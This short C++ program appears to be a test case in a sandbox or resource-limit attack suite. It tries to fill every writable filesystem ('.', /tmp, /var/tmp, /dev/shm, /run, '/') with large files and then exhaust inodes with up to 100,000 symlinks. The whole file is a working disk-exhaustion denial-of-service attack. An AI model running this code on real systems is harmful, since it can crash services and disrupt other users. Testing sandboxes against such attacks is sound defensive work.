// Fills every file system that it may write to, with bytes and with names.
// Says: No space left on device
#include "attack.hpp"

int main()
{
    static char bytes[1 << 20];
    int error = 0;
    for (const char *folder : {".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/"}) {
        for (int file = 0; file < 40; file++) {
            int fd = open(text("%s/full-%d", folder, file), O_CREAT | O_WRONLY, 0600);
            for (int i = 0; i < 10 && fd != -1; i++)
                if (write(fd, bytes, sizeof bytes) == -1)
                    error = errno;
        }
    }
    for (int file = 0; file < 100000; file++)
        if (symlink("x", text("%d", file)) == -1)
            return end(strerror(error));
    return end("there was no end of it");
}
